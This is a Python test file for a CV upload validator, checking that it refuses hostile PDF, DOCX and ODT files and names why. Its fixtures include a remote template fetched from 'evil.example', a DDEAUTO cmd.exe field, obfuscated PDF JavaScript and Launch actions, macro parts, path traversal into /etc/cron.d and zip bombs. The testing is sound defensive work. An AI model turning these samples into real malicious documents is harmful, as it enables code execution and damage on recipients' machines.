"""CVs on their way in: what is taken is what it says, and what would run, explode or hide something is refused."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from sample_papers import docx, odt, pdf, zipped

from adapters.papers import Judge, Unfit, judged

EICAR_LIKE = b"<html><script>alert(1)</script></html>"


def why(content: bytes, ending: str = "pdf") -> str:
    with pytest.raises(Unfit) as refused:
        judged(content, ending)
    return refused.value.why


SCRIPT = b"4 0 <</S/JavaScript/JS(x)>>"


def object_stream(stream: bytes, entries: bytes, begin: bytes = b"stream\n") -> bytes:
    """A PDF with objects packed in whatever way `entries` says."""
    return pdf(b"4 0 obj<</Type/ObjStm/N 1/First 4%s/Length %d>>%s%s\nendstream endobj" % (entries, len(stream), begin, stream))


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "x")
        for n in range(10):
            package.writestr(f"word/{n}.xml", b" " * 8_000_000)
    return out.getvalue()


def lying_bomb() -> bytes:
    """Its directory says that it is small."""
    whole = bytearray(docx({"word/huge.xml": " " * 5_000_000}))
    real = (5_000_000).to_bytes(4, "little")
    while (at := whole.find(real)) >= 0:
        whole[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(whole)


def packed_objects(inside: bytes) -> bytes:
    stream = zlib.compress(inside)
    return pdf(b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj" % (len(stream), stream))


PACKED = object_stream(zlib.compress(b"4 0 <</Type/Font>>"), b"/Filter[/FlateDecode]/DecodeParms[null]")


@pytest.mark.parametrize(("content", "ending"), [(pdf(), "pdf"), (PACKED, "pdf"), (docx(), "docx"), (odt(), "odt")])
def test_an_honest_cv_is_taken(content: bytes, ending: str) -> None:
    assert judged(content, ending) == ending


@pytest.mark.parametrize(
    ("content", "ending", "reason"),
    [
        (EICAR_LIKE, "pdf", "kind"),
        (b"MZ\x90\x00" + b"\0" * 100, "docx", "kind"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "doc", "kind"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 64 + "EncryptedPackage".encode("utf-16-le"), "docx", "encrypted"),
        (pdf(), "docx", "ending"),
        (docx(), "pdf", "ending"),
        (docx(), "", "ending"),
        (docx(), "docm", "macros"),
        (docx({"word/vbaProject.bin": "x"}), "docx", "macros"),
        (docx({"word/VBAPROJECT.BIN": "x"}), "docx", "macros"),
        (docx(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "docx", "macros"),
        (docx({"word/embeddings/oleObject1.bin": "x"}), "docx", "active"),
        (docx({"word/_rels/settings.xml.rels": '<Relationships><Relationship Id="r" Type="x/attachedTemplate" Target="https://evil.example/t.dotm"'
                                               ' TargetMode="External"/></Relationships>'}), "docx", "active"),
        (docx({"word/footer.xml": '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>'}), "docx", "active"),
        (docx({"word/x.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "docx", "active"),
        (docx({"../../etc/cron.d/x": "x"}), "docx", "broken"),
        (odt({"Basic/Standard/Module1.xml": "x"}), "odt", "macros"),
        (odt({"Scripts/python/x.py": "x"}), "odt", "macros"),
        (odt(manifest="<manifest:encryption-data/>"), "odt", "encrypted"),
        (zipped({"a.txt": "x"}), "docx", "kind"),
        (pdf(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), "pdf", "active"),
        (pdf(b"4 0 obj<</S/J#61vaScript>>endobj"), "pdf", "active"),
        (pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "pdf", "active"),
        (pdf(b"4 0 obj<</EmbeddedFiles 5 0 R>>endobj"), "pdf", "active"),
        (packed_objects(b"4 0 <</S/JavaScript/JS(x)>>"), "pdf", "active"),
        (object_stream(SCRIPT, b""), "pdf", "active"),
        (object_stream(zlib.compress(SCRIPT)[:-4] + b"sums", b"/Filter/FlateDecode"), "pdf", "broken"),
        (object_stream(zlib.compress(SCRIPT).hex().encode() + b">", b"/Filter[/ASCIIHexDecode/FlateDecode]"), "pdf", "active"),
        (object_stream(zlib.compress(SCRIPT), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>"), "pdf", "active"),
        (object_stream(zlib.compress(SCRIPT), b"/Filter 9 0 R"), "pdf", "active"),
        (object_stream(zlib.compress(SCRIPT), b"/Filter/Fl#61teDecode"), "pdf", "active"),
        (object_stream(zlib.compress(SCRIPT), b"/Filter/FlateDecode", begin=b"stream \n"), "pdf", "broken"),
        (packed_objects(b" " * 70_000_000), "pdf", "heavy"),
        (pdf(trailer=b"/Encrypt 9 0 R"), "pdf", "encrypted"),
        (pdf() + docx(), "pdf", "mixed"),
        (pdf() + EICAR_LIKE, "pdf", "mixed"),
        (EICAR_LIKE + docx(), "docx", "kind"),
        (docx() + EICAR_LIKE, "docx", "mixed"),
        (pdf()[:-40], "pdf", "broken"),
        (docx()[:-40], "docx", "broken"),
        (b"%PDF-", "pdf", "broken"),
        (b"PK\x03\x04", "docx", "broken"),
        (bomb(), "docx", "heavy"),
        (lying_bomb(), "docx", "broken"),
    ],
)  # fmt: skip
def test_what_is_no_plain_cv_is_refused_for_what_it_is(content: bytes, ending: str, reason: str) -> None:
    assert why(content, ending) == reason


def test_a_document_locked_with_a_password_is_told_so() -> None:
    whole = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = whole.find(mark)
        while place >= 0:
            whole[place + at] |= 1
            place = whole.find(mark, place + 4)
    assert why(bytes(whole), "docx") == "encrypted"


async def test_the_name_counts_for_its_ending_alone_and_size_is_settled_first() -> None:
    judge = Judge()
    assert (await judge.judged("../../My CV (final).PDF", pdf())).kind == "pdf"
    for name, content, reason in (("cv.pdf", b"", "empty"), ("cv.pdf", b"%PDF-" + b"x" * 5 * 1024 * 1024, "large"), ("pdf", pdf(), "ending")):
        with pytest.raises(Unfit) as refused:
            await judge.judged(name, content)
        assert refused.value.why == reason
